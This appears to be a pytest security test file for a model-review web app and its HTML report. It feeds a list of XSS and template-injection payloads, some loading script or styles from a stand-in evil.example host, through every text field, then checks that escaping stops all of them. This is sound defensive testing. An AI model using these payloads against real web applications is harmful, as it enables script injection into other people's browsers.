"""Case 21 on the pages of Stage-B: HTML in any text of strangers and models runs no script and makes no new tag."""

from __future__ import annotations

import json
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import msgspec
import pytest
from fastapi.testclient import TestClient

from plumbline.infer.engine import Reply
from plumbline.report.review import review_app
from plumbline.report.stage_b import write_stage_b_report
from plumbline.stage_b.decisions import Decision, keep_decision
from plumbline.stage_b.guidance import Edit, Rule
from plumbline.stage_b.mission import MissionRun
from plumbline.stage_b.tickets import Ticket
from reviewing import caption_row, edit_row, made_run, needs_browser, open_browser, write_captions

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus=alert(1) autofocus='",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<form action=//evil.example><button data-key=p>x</button></form>",
    "<!-- --><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    '<?xml version="1.0"?><x/>',
    "{{ 7 * 7 }}{% include 'run.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<input name=token value=x><input name=decision value=pass>",
    "<dialog open id=relabel><button data-key=p>",
    "\u202e<script>\u2066alert(1)\u200b</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "`<img src=`x` onerror=alert(1)>`",
    "图1<b>[R1]</b>第2张",
]
PATHS = ("/", "/suspects", "/guidance", "/ticket/1", "/ticket/2", "/ticket/3?queue=suspects")
BENIGN = "图1b[R1]b第2张"


class Saying:
    """Answers with the payload: as a verdict's reason, and as a reply that cannot be read."""

    identity = "a hostile model"

    def __init__(self, text: str):
        self.text = text

    def stream(self, requests: Any) -> Any:
        for number, request in enumerate(requests):
            yield Reply(request.key, self.text if number % 4 == 3 else f"不通过\n理由: {self.text}", 9)


def hostile_run(folder: Path, text: str) -> tuple[MissionRun, Path]:
    """A run in which every text that is not ours is `text`; and its captions."""

    def change(ticket: Ticket) -> Ticket:
        number = ticket.group_id[-1]
        summaries = {"image_1": text, "image_2": text}
        flags = (f"image_1: {text}",)
        images = (f"{text}1", f"{text}2", f"{text}3")
        named = replace(ticket, group_id=f"{text}{number}", mission=f"m{text}".replace("\0", ""), images=images)
        return replace(named, label="pass", summaries=summaries, failed={"image_3": text}, flags=flags)

    run = made_run(folder, count=3, change=change, engine=Saying(text))
    splits = {"keys": {"propose": [ticket.key for ticket in run.data.tickets]}}
    (run.store.folder / "splits.json").write_text(json.dumps(splits), encoding="utf-8")
    guidance = run.store.guidance.read()
    assert guidance is not None
    rules = (Rule("R1", text), Rule(text, text))
    told = msgspec.structs.replace(guidance, step=1, focus=text, rules=rules, preferences=(text,))
    run.store.guidance.write(told)
    again = msgspec.structs.replace(told, step=2, focus=f"{text}{text}", rules=rules[:1])
    run.store.guidance.write(again)
    for number, (before, after, outcome) in enumerate(((guidance, told, "accept"), (told, again, "reject"))):
        row = edit_row(Edit("add", text, (text,), (text,)), before, after, outcome, number)
        run.store.keep_edit(row | {"why": text, "source": text, "tried_at": text})
    selections = run.store.folder / "selections.jsonl"
    rows = [json.loads(line) for line in selections.read_text(encoding="utf-8").splitlines()]
    for row in rows:
        row["result"]["doubts"].append(text)
    rows[0]["guidance_hash"] = told.hash  # its rules are shown
    selections.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    key = run.data.tickets[1].key
    keep_decision(run, Decision(key, "note", note=text.replace("\0", ""), who=text, verdict=text))
    keep_decision(run, Decision(key, "fail", who=text, verdict=text))
    images = run.data.tickets[0].images
    odd = caption_row(images[1], objects=[{"bbox_2d": [1, 2, 3, 4], "desc": text, text: 1, "poly": text}])
    return run, write_captions(folder / "captions.jsonl", caption_row(images[0], desc=text), odd)


class Tags(HTMLParser):
    """Counts elements with their attributes' names; keeps what addresses point to."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: Counter[tuple[str, ...]] = Counter()
        self.addresses: list[str] = []
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[(tag, *(name for name, _ in attrs))] += 1
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def tags_of(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    tags.close()
    return tags


def pages_of(folder: Path, text: str) -> dict[str, Tags]:
    """Every page of a run whose texts are all `text`, read as HTML."""
    run, captions = hostile_run(folder, text)
    app = review_app(run, image_root=folder / "photos", captions=captions, reviewer=text)
    client = TestClient(app, base_url="http://127.0.0.1")
    found = {}
    for path in PATHS:
        reply = client.get(path)
        assert reply.status_code == 200, reply.text
        found[path] = tags_of(reply.text)
    photo = client.get("/photo/1/1/page")
    drawn = {element.tag.rpartition("}")[2] for element in ElementTree.fromstring(photo.text).iter()}
    assert drawn == {"svg", "rect", "g", "path", "text"}
    found["report"] = tags_of(write_stage_b_report(run, folder / "r.html", image_root=folder).read_text("utf-8"))
    return found


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Tags]:
    return pages_of(tmp_path_factory.mktemp("benign"), BENIGN)


LINKS = {("span", "class"), ("span", "class", "data-cites"), ("a", "class", "href"), ("del",), ("ins",)}
CITED = {("li", "id"), ("li", "id", "class")}
"""What sentences and differences are cut into, as many as the text has; a rule, which it cites or not."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_makes_a_tag_or_an_address(tmp_path: Path, benign: dict[str, Tags], payload: str) -> None:
    """Case 21: each page has the same elements, with the same attributes, as for harmless texts."""
    for path, tags in pages_of(tmp_path, payload).items():
        expected = benign[path]
        for tag in tags.tags | expected.tags:
            if tag not in LINKS | CITED:
                assert tags.tags[tag] == expected.tags[tag], (path, tag)
        assert tags.attributes <= expected.attributes
        assert not any(name.startswith("on") or name == "style" for name in tags.attributes)
        for address in tags.addresses:
            ours = address.startswith(("/ticket/", "/photo/", "/static/", "#photo-", "#rule-", "/?"))
            assert ours or address in ("/", "/suspects", "/guidance", "/decisions"), address


@needs_browser
def test_nothing_runs_in_a_real_browser(tmp_path: Path) -> None:
    """Case 21: every page with all payloads in every field, and without its policy: escaping alone must hold."""
    text = " ".join(PAYLOADS).replace("\0", "")
    run, captions = hostile_run(tmp_path, text)
    app = review_app(run, image_root=tmp_path, captions=captions, reviewer=text)
    client = TestClient(app, base_url="http://127.0.0.1")
    pages = [client.get(path).text for path in PATHS]
    pages.append(write_stage_b_report(run, tmp_path / "r.html").read_text("utf-8").replace("Security-Policy", "None"))
    armed = "<script>window.ran = 0; window.alert = () => { window.ran += 1; };</script>"
    with open_browser() as browser:
        for number, page in enumerate(pages):
            file = tmp_path / f"{number}.html"
            file.write_text(page.replace("<head>", f"<head>{armed}"), encoding="utf-8")
            browser.get(file.as_uri())
            ours = page.count('<script src="/static/review.js"')
            assert browser.execute_script("return [window.ran, document.scripts.length]") == [0, 1 + ours]
            made = "return document.querySelectorAll('iframe, base, math, svg, [onerror], [onload], [srcdoc]').length"
            assert browser.execute_script(made) == 0
